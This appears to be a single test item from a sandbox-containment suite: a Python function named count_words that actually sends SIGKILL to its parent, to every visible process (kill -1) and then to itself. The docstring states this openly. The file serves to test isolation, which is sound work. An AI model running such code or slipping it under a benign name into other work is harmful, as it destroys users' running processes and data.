"""Kill every process that can be seen, the parent first (row 114).

levels: full docker reduced
because: without a box a program may kill what its user may
says: ended the whole program
"""
import os
import signal


def count_words(text):
    """Kill."""
    for process in (os.getppid(), -1):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
